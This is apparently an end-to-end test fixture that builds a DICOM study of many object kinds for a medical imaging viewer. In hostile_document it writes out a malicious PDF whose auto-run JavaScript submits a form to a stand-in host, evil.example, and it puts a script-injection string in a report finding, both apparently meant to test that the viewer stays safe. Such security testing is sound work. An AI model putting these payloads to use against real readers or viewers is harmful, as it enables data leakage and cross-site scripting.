"""One study with an object of each kind that is no plain stack of images."""

import io
import math
import struct
from collections.abc import Iterator

from pydicom import Dataset
from pydicom.sequence import Sequence
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from tests.e2e.object_base import STORAGE, STUDY, code, described, of_study, placed, real, series_uid, written
from tests.e2e.slides import slide

CT_SERIES = series_uid("ct")
PDF_TEXT = "The mandibular canal runs below the apex"


def study() -> dict[str, bytes]:
    """Every object by the name of its kind."""
    return {
        "ct": of_study("ct", "CT_small.dcm"),
        "pdf": pdf("pdf", document()),
        "hostile pdf": pdf("hostile pdf", hostile_document()),
        "report": report(),
        "basic report": of_study("basic report", "test-SR.dcm"),
        "keys": key_objects(),
        "mesh": mesh(),
        "ecg": of_study("ecg", "waveform_ecg.dcm"),
        "structures": structures(),
        "plan": plan(),
        "presentation": written(described("presentation", f"{STORAGE}11.1", "PR")),
    } | slide()


# --- Documents ----------------------------------------------------------------------------------------------------


def pdf(name: str, content: bytes) -> bytes:
    """An encapsulated PDF."""
    made = described(name, f"{STORAGE}104.1", "DOC")
    made.DocumentTitle, made.MIMETypeOfEncapsulatedDocument = f"A letter ({name})", "application/pdf"
    made.EncapsulatedDocument = content + b"\0" * (len(content) % 2)
    return written(made)


def document() -> bytes:
    """Three pages of text."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4)
    for page in range(1, 4):
        canvas.setFont("Helvetica-Bold", 22)
        canvas.drawString(72, 740, f"Letter to the referring office, page {page}")
        canvas.setFont("Helvetica", 12)
        for line in range(30):
            canvas.drawString(72, 700 - 18 * line, f"{line + 1}. {PDF_TEXT} (page {page}).")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def hostile_document() -> bytes:
    """A page that runs scripts, opens addresses and submits forms, as far as a reader lets it."""
    script = "(app.alert\\('no'\\); this.submitForm\\('https://evil.example/'\\); window.hostile = true;)"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS {script} >> /AA << /WC 5 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Annots [6 0 R] "
        "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        "<< /Length 58 >>\nstream\nBT /F1 20 Tf 40 200 Td (A page that means no good.) Tj ET   \nendstream",
        f"<< /S /JavaScript /JS {script} >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /URI /URI (https://evil.example/) >> >>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    return out + f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


# --- Reports ------------------------------------------------------------------------------------------------------


def _item(kind: str, name: str, relation: str = "CONTAINS", **values: object) -> Dataset:
    made = Dataset()
    made.RelationshipType, made.ValueType = relation, kind
    made.ConceptNameCodeSequence = [code(name)]
    for keyword, value in values.items():
        setattr(made, keyword, value)
    return made


def _number(name: str, value: str, unit: str, *children: Dataset) -> Dataset:
    measured = Dataset()
    measured.NumericValue, measured.MeasurementUnitsCodeSequence = value, [code(unit, unit, "UCUM")]
    made = _item("NUM", name, MeasuredValueSequence=[measured])
    if children:
        made.ContentSequence = list(children)
    return made


def _image_reference(relation: str = "CONTAINS") -> Dataset:
    reference = Dataset()
    reference.ReferencedSOPClassUID, reference.ReferencedSOPInstanceUID = f"{STORAGE}2", f"{CT_SERIES}.1"
    return _item("IMAGE", "Source image", relation, ReferencedSOPSequence=[reference])


def _evidence() -> list[Dataset]:
    reference, series, made = Dataset(), Dataset(), Dataset()
    reference.ReferencedSOPClassUID, reference.ReferencedSOPInstanceUID = f"{STORAGE}2", f"{CT_SERIES}.1"
    series.SeriesInstanceUID, series.ReferencedSOPSequence = CT_SERIES, [reference]
    made.StudyInstanceUID, made.ReferencedSeriesSequence = STUDY, [series]
    return [made]


def _document(name: str, sop_class: str, modality: str, title: str, content: list[Dataset]) -> bytes:
    made = described(name, sop_class, modality)
    made.ValueType, made.ConceptNameCodeSequence, made.ContinuityOfContent = "CONTAINER", [code(title)], "SEPARATE"
    made.CompletionFlag, made.VerificationFlag = "COMPLETE", "UNVERIFIED"
    made.CurrentRequestedProcedureEvidenceSequence, made.ContentSequence = _evidence(), Sequence(content)
    return written(made)


def report() -> bytes:
    """Sections, words with markup in them, measurements, and an image that it speaks of."""
    findings = _item("CONTAINER", "Findings", ContinuityOfContent="SEPARATE")
    side = _item("CODE", "Laterality", "HAS CONCEPT MOD", ConceptCodeSequence=[code("Left")])
    findings.ContentSequence = [
        _item("TEXT", "Finding", TextValue="A mass with <script>window.hostile = true</script> in its name."),
        _number("Length", "12.5", "mm", side, _image_reference("INFERRED FROM")),
        _number("Mean attenuation", "41", "[hnsf'U]"),
        _image_reference(),
    ]
    impression = _item("CONTAINER", "Impression", ContinuityOfContent="SEPARATE")
    impression.ContentSequence = [_item("CODE", "Conclusion", ConceptCodeSequence=[code("Benign")])]
    observer = _item("PNAME", "Person Observer Name", "HAS OBS CONTEXT", PersonName="Rossi^Rita^^Dr")
    content = [observer, findings, impression]
    return _document("report", f"{STORAGE}88.33", "SR", "Imaging report", content)


def key_objects() -> bytes:
    """The CT image, marked as important."""
    remark = _item("TEXT", "Key Object Description", TextValue="For the surgeon: compare with last year.")
    content = [remark, _image_reference()]
    return _document("keys", f"{STORAGE}88.59", "KO", "For Referring Provider", content)


# --- Models, plans ------------------------------------------------------------------------------------------------


def mesh() -> bytes:
    """An encapsulated STL: a ring that a tooth could stand in."""
    made = described("mesh", f"{STORAGE}104.3", "M3D")
    made.DocumentTitle, made.MIMETypeOfEncapsulatedDocument = "Ring", "model/stl"
    content = _stl(list(_ring()))
    made.EncapsulatedDocument = content + b"\0" * (len(content) % 2)
    return written(made)


def _ring(around: int = 60, across: int = 24) -> Iterator[tuple[tuple[float, ...], ...]]:
    def corner(i: int, j: int) -> tuple[float, float, float]:
        u, v = 2 * math.pi * i / around, 2 * math.pi * j / across
        radius = 20 + (7 + math.sin(4 * u)) * math.cos(v)
        return radius * math.cos(u), radius * math.sin(u), (7 + math.sin(4 * u)) * math.sin(v)

    for i in range(around):
        for j in range(across):
            yield corner(i, j), corner(i + 1, j), corner(i + 1, j + 1)
            yield corner(i, j), corner(i + 1, j + 1), corner(i, j + 1)


def _stl(triangles: list[tuple[tuple[float, ...], ...]]) -> bytes:
    body = b"".join(
        struct.pack("<12fH", 0, 0, 0, *(value for corner in triangle for value in corner), 0) for triangle in triangles
    )
    return bytes(80) + struct.pack("<I", len(triangles)) + body


def structures() -> bytes:
    """Two drawn structures."""
    made = described("structures", f"{STORAGE}481.3", "RTSTRUCT")
    made.StructureSetLabel, made.StructureSetDate = "PLAN_A", "20260114"
    made.StructureSetROISequence, made.ROIContourSequence, made.RTROIObservationsSequence = [], [], []
    for number, (name, kind, colour) in enumerate([("PTV", "PTV", [255, 0, 0]), ("Spinal cord", "ORGAN", [0, 255, 0])]):
        region, contour, observation = Dataset(), Dataset(), Dataset()
        region.ROINumber, region.ROIName, region.ROIGenerationAlgorithm = number, name, "MANUAL"
        contour.ReferencedROINumber, contour.ROIDisplayColor, contour.ContourSequence = number, colour, [Dataset()]
        observation.ReferencedROINumber, observation.RTROIInterpretedType = number, kind
        made.StructureSetROISequence.append(region)
        made.ROIContourSequence.append(contour)
        made.RTROIObservationsSequence.append(observation)
    return written(made)


def plan() -> bytes:
    """pydicom's own plan, which the gate refuses for its file meta, put right."""
    made = placed(real("rtplan.dcm"), "plan")
    made.SOPInstanceUID = made.file_meta.MediaStorageSOPInstanceUID = f"{series_uid('plan')}.1"
    made.file_meta.MediaStorageSOPClassUID = made.SOPClassUID
    return written(made)
